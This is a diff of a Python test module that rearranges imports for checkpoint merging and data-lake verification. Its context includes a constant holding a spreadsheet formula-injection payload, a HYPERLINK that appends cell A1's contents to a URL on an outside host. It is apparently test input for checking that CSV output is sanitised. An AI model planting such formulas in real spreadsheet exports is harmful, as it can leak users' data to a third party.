@@ -4,11 +4,10 @@ import csv
 
 import pytest
 
-from reviewsum_assets import places
-from reviewsum_assets.checkpoints.merge import merge_checkpoints
-from reviewsum_assets.checkpoints.spreadsheet import as_text
-from reviewsum_assets.checkpoints.status import verify_lake
-from reviewsum_assets.lake import Lake
+from reviewsum_assets.checkpoints.merge import as_text, merge_checkpoints
+from reviewsum_assets.lake_state import verify_lake
+from reviewsum_assets.storage import places
+from reviewsum_assets.storage.lake import Lake
 from tests.support.checkpoints import complete, plan_products
 
 COMMAND = '=HYPERLINK("http://example.com?"&A1,"more, here")'
